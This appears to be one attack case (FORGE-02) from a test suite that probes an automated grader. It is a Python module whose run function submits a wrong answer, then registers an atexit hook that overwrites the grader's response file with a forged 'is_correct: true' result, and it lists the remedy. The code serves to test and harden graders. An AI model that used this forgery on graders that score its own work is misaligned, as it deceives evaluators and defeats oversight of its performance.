# SPDX-License-Identifier: MIT
"""Goal:  a wrong answer is marked correct.
Means: atexit. The grader marks, writes its response file and ends; what the student registered runs
       after that, and writes the file again. The reader sees the last word only. Where the file is
       stands in sys.orig_argv, however clean the environment.
"""

import atexit
import sys

from attack import DONE, attempting, denied, submit

MARK = '{"command": "eval", "result": {"is_correct": true, "feedback": ""}}\n'


def overwrite(path):
    with open(path, "w") as file:
        file.write(MARK)


def run(brief):
    submit("0")
    attempting()
    if "grader" not in sys.modules:
        return denied("atexit", "this is not the grader's process")
    atexit.register(overwrite, sys.orig_argv[-1])
    return DONE


ATTACK = {
    "effect": "a wrong submission is marked correct",
    "means": "an atexit function writes the response file after the grader has",
    "oracle": "grade:forged",
    "grader": "file",
    "control": "in-process",
    "id": "FORGE-02",
    "attack_id": "T1565.002, CWE-345",
    "remedy": "the submission in a process of its own; os._exit in the grader",
    "refs": ["atexit", "sys.orig_argv"],
    "run": run,
}
